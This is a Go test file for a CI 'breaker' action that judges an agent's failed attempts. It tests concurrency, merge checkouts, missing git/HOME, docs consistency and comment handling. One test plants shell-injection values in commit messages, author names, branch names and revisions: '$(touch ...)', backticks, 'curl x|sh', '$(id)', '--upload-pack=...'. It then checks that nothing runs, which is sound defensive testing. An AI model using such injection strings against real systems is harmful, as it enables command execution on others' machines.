package action_test

import (
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/greenlight-ci/breaker/internal/cli"
	"github.com/greenlight-ci/breaker/internal/gitrepo"
)

// testHelpers are the packages only tests import (their repositories and
// golden files).
var testHelpers = []string{"internal/gitrepo", "internal/golden"}

// RELIABILITY 2: shell metacharacters in the commit text, the author, the
// branch name, the test names and the revisions stay data. The breaker
// starts no process at all (go-git reads the repository), so there is no
// shell to reach; this test holds both halves: no production file imports
// os/exec, and hostile values come out as escaped text with nothing run.
func TestReliability02_ShellMetacharactersStayData(t *testing.T) {
	t.Parallel()
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() && path == filepath.Join(root, "bench") {
			return filepath.SkipDir // benchmarks that run the built breaker and git; never part of it
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		f, err := parser.ParseFile(token.NewFileSet(), path, nil, parser.ImportsOnly)
		if err != nil {
			return err
		}
		// The tests' own helpers (git builds their repositories) are
		// imported by tests only: never part of the breaker.
		helper := slices.Contains(testHelpers, strings.TrimPrefix(filepath.ToSlash(filepath.Dir(path)), "../../"))
		for _, imp := range f.Imports {
			p, _ := strconv.Unquote(imp.Path.Value)
			if p == "os/exec" && !helper {
				t.Errorf("%s imports %s: the breaker must start no process", path, p)
			}
			if rel, ok := strings.CutPrefix(p, "github.com/greenlight-ci/breaker/"); ok && slices.Contains(testHelpers, rel) && !helper {
				t.Errorf("%s imports %s, which only tests may import", path, p)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}

	r := gitrepo.Shop(t)
	canary := filepath.Join(r.Dir, "PWNED")
	payload := `$(touch ` + canary + `) ` + "`touch " + canary + "`" + ` "; curl x|sh #`
	branch := `zzz";echo${IFS}hi;#`
	r.Git("checkout", "-q", "-b", branch)
	for i := range 3 {
		r.Git("-c", "user.name=x\"; $(touch "+canary+")", "commit", "-q", "--allow-empty", "--author", `x"; $(touch `+canary+`) <a@example.com>`,
			"-m", payload+" "+strconv.Itoa(i)+"\n\nGreenlight-Slice: S-1\nGreenlight-Test: Test`id`$(id)\nGreenlight-Hypothesis: "+payload)
	}
	writeFile(t, filepath.Join(r.Dir, "junit.xml"), `<testsuite><testcase classname="c" name="Test`+"`id`"+`$(id)"><failure message="`+xmlEscape(payload)+`">x</failure></testcase></testsuite>`)
	out, stderr, code := runCLI(t, "", "evaluate", "--repo", r.Dir, "--base", "main", "--results", filepath.Join(r.Dir, "junit.xml"), "--format", "markdown")
	if code != cli.ExitTripped {
		t.Fatalf("exit %d; want %d (three failed attempts)\n%s%s", code, cli.ExitTripped, out, stderr)
	}
	if !strings.Contains(out, "`touch") && !strings.Contains(out, "\\`touch") {
		t.Errorf("the hostile subject does not appear as data in the report:\n%s", out)
	}
	for _, rev := range []string{"--upload-pack=touch " + canary, "-q", "-"} {
		_, stderr, code := runCLI(t, "", "evaluate", "--repo", r.Dir, "--base", rev, "--head", rev)
		if code != cli.ExitError || !strings.Contains(stderr, "revision") {
			t.Errorf("revision %q: exit %d, %q; want 1 naming the revision", rev, code, stderr)
		}
	}
	h := newActionHarness(t)
	h.repo = r
	h.srv.SetDefaultBranch("main", r.Git("rev-parse", "main"))
	res := h.run("push", pushEvent(t, branch, r.Git("rev-parse", "HEAD")))
	if res.code != cli.ExitTripped {
		t.Errorf("action: exit %d; want %d\n%s", res.code, cli.ExitTripped, res.stdout)
	}
	if _, err := os.Stat(canary); err == nil {
		t.Fatal("a command in the agent's text ran: the canary file exists")
	}
}

// RELIABILITY 27: a push, a dispatch and a /breaker debug comment run at
// once on the same tripped pull request, then again. However they
// interleave, the pull request ends with one comment of ours and the
// checkpoint tag where the policy puts it, and a re-run changes nothing.
func TestReliability27_ConcurrentRunsConverge(t *testing.T) {
	t.Parallel()
	h := newActionHarness(t)
	base, head := h.spiral(3)
	pr := h.openPR(head)
	events := []struct {
		name    string
		payload map[string]any
	}{
		{"push", pushEvent(t, "agent/S-3", head)},
		{"workflow_dispatch", dispatchEvent(t, "agent/S-3")},
		{"issue_comment", commentEvent(t, pr.Number, "maintainer", "User", "/breaker debug")},
	}
	h.srv.SetPermission("maintainer", "write")
	for round := range 2 {
		var wg sync.WaitGroup
		codes := make([]int, len(events))
		for i, e := range events {
			wg.Add(1)
			go func() {
				defer wg.Done()
				codes[i] = h.run(e.name, e.payload).code
			}()
		}
		wg.Wait()
		for i, c := range codes {
			if c != cli.ExitTripped && c != cli.ExitClosed {
				t.Errorf("round %d: %s exited %d", round, events[i].name, c)
			}
		}
		if n := len(h.comments(pr.Number)); n != 1 {
			t.Fatalf("round %d: %d comments on the pull request; want exactly one of ours", round, n)
		}
		if got, _ := h.srv.Ref("refs/tags/greenlight/checkpoint/S-3"); got != base {
			t.Fatalf("round %d: checkpoint tag at %q; want the branch point %s", round, got, base)
		}
	}
}

// RELIABILITY 28: the container's environment cannot break the verdict.
// No git binary is needed (go-git reads the repository, so git's
// "dubious ownership" refusal and safe.directory do not apply), HOME may be
// missing, and outputs go only to the runner's files (their heredoc
// delimiters are checked in actionenv's TestAction_SetOutputs; symlinked
// report paths in TestAction_ReportSymlinkIsNeverWrittenThrough).
func TestReliability28_ContainerWithoutGitOrHome(t *testing.T) {
	h := newActionHarness(t)
	_, head := h.spiral(3)
	h.openPR(head)
	t.Setenv("PATH", t.TempDir()) // no git, no shell
	t.Setenv("HOME", filepath.Join(t.TempDir(), "missing"))
	res := h.run("push", pushEvent(t, "agent/S-3", head))
	if res.code != cli.ExitTripped || res.outputs["tripped"] != "true" {
		t.Fatalf("without git on PATH and without HOME: exit %d, outputs %v; want 42, tripped\n%s", res.code, res.outputs, res.stdout)
	}
	if n := len(h.comments(7)); n != 1 {
		t.Errorf("%d comments; want the diagnostic posted once", n)
	}
}

// RELIABILITY 18: on pull_request the workspace is GitHub's synthetic merge
// commit (two parents, HEAD != the head SHA) and the branch is long (more
// than 250 commits, past any single page). The commits judged are
// base..head.sha: neither the merge nor the base branch's own commits
// count, and every attempt is read.
func TestReliability18_MergeCheckoutAndLongBranch(t *testing.T) {
	t.Parallel()
	h := newActionHarness(t)
	r := h.repo
	r.Git("checkout", "-q", "-b", "agent/S-3")
	cmd := exec.Command("sh", "-c", `for i in $(seq 1 260); do git commit -q --allow-empty -m "chore $i" || exit 1; done`)
	cmd.Dir = r.Dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=Agent", "GIT_AUTHOR_EMAIL=agent@example.com",
		"GIT_COMMITTER_NAME=Agent", "GIT_COMMITTER_EMAIL=agent@example.com", "HOME="+r.Dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	var head string
	for i := range 3 {
		head = r.Attempt("S-3", testDup, "strategy "+strconv.Itoa(i))
	}
	// The base branch moves on with attempts of its own that must not count.
	r.Git("checkout", "-q", "main")
	r.Attempt("S-3", testDup, "a base-branch commit")
	r.Attempt("S-3", "TestOther", "another base-branch commit")
	baseSHA := r.Git("rev-parse", "HEAD")
	// actions/checkout's pull_request checkout: the merge, detached.
	r.Git("checkout", "-q", "--detach", baseSHA)
	r.Git("merge", "-q", "--no-ff", "-m", "Merge "+head+" into "+baseSHA, head)
	if merge := r.Git("rev-parse", "HEAD"); merge == head {
		t.Fatal("the workspace should be the merge commit")
	}
	h.failing(testDup)
	pr := h.openPR(head)
	pr.BaseSHA = baseSHA
	h.srv.AddPullRequest(pr)
	res := h.run("pull_request", pullRequestEvent(t, "synchronize", pr))
	if res.code != cli.ExitTripped {
		t.Fatalf("exit %d; want 42 from the branch's three attempts\n%s", res.code, res.stdout)
	}
	if !strings.Contains(res.summary, "3/3") || strings.Contains(res.summary, "TestOther") {
		t.Errorf("the summary should show 3/3 on %s and nothing of the base branch:\n%s", testDup, res.summary)
	}
}

// TestDocs_ReliabilityTableNamesRealTests: every test the README's
// checklist table names is a test function of this module, and the table
// has the 29 items in order.
func TestDocs_ReliabilityTableNamesRealTests(t *testing.T) {
	t.Parallel()
	root := filepath.Join("..", "..")
	readme, err := os.ReadFile(filepath.Join(root, "docs", "reliability.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := strings.Cut(string(readme), "### Bad inputs and faults, each with its test")
	if !ok {
		t.Fatal("docs/reliability.md: the checklist table's section is missing")
	}
	defined := map[string]bool{}
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, "_test.go") {
			return err
		}
		f, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			return err
		}
		for _, decl := range f.Decls {
			if fn, ok := decl.(*ast.FuncDecl); ok && fn.Recv == nil {
				defined[fn.Name.Name] = true
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	item := 0
	for _, line := range strings.Split(section, "\n") {
		cells := strings.Split(line, "|")
		if len(cells) < 5 {
			if item > 0 {
				break // the end of the table
			}
			continue
		}
		n, err := strconv.Atoi(strings.TrimSpace(cells[1]))
		if err != nil {
			continue // the header and its rule
		}
		item++
		if n != item {
			t.Errorf("docs/reliability.md checklist: row %d is numbered %d", item, n)
		}
		names := 0
		for _, span := range strings.Split(cells[3], "`")[1:] {
			if strings.HasPrefix(span, "Test") || strings.HasPrefix(span, "Fuzz") {
				names++
				if !defined[span] {
					t.Errorf("docs/reliability.md checklist item %d names %s, which no test file defines", n, span)
				}
			}
		}
		if names == 0 {
			t.Errorf("docs/reliability.md checklist item %d names no test", n)
		}
	}
	// RELIABILITY's 29, then the trust model's attacks (docs/trust-model.md),
	// GitHub's contract, the large suite's ledger and the line of work.
	if item != 46 {
		t.Errorf("docs/reliability.md checklist has %d items; want 46", item)
	}
	// The trust model page names real tests too.
	doc, err := os.ReadFile(filepath.Join(root, "docs", "trust-model.md"))
	if err != nil {
		t.Fatal(err)
	}
	named := 0
	for _, span := range strings.Split(string(doc), "`")[1:] {
		if strings.HasPrefix(span, "Test") {
			named++
			if !defined[span] {
				t.Errorf("docs/trust-model.md names %s, which no test file defines", span)
			}
		}
	}
	if named < 14 {
		t.Errorf("docs/trust-model.md names %d tests; want one an attack at least", named)
	}
}

// RELIABILITY 5 (the part the other tests leave): a comment of ours that a
// human minimized is never edited or deleted; a new comment carries the
// diagnostic.
func TestReliability05_MinimizedCommentIsNeverEdited(t *testing.T) {
	t.Parallel()
	h := newActionHarness(t)
	_, head := h.spiral(3)
	h.openPR(head)
	hiddenBody := "<!-- greenlight-breaker:S-3 -->\nhidden as outdated"
	hidden := h.srv.AddComment(7, "github-actions[bot]", hiddenBody)
	h.srv.MinimizeComment(hidden)
	for range 2 {
		if res := h.run("push", pushEvent(t, "agent/S-3", head)); res.code != cli.ExitTripped {
			t.Fatalf("exit %d; want 42\n%s", res.code, res.stdout)
		}
	}
	comments := h.comments(7)
	if len(comments) != 2 || comments[0].ID != hidden || comments[0].Body != hiddenBody {
		t.Fatalf("comments %+v; want the minimized one untouched and one new diagnostic", comments)
	}
	if !strings.Contains(comments[1].Body, testDup) {
		t.Errorf("the new comment does not carry the diagnostic:\n%s", comments[1].Body)
	}
}
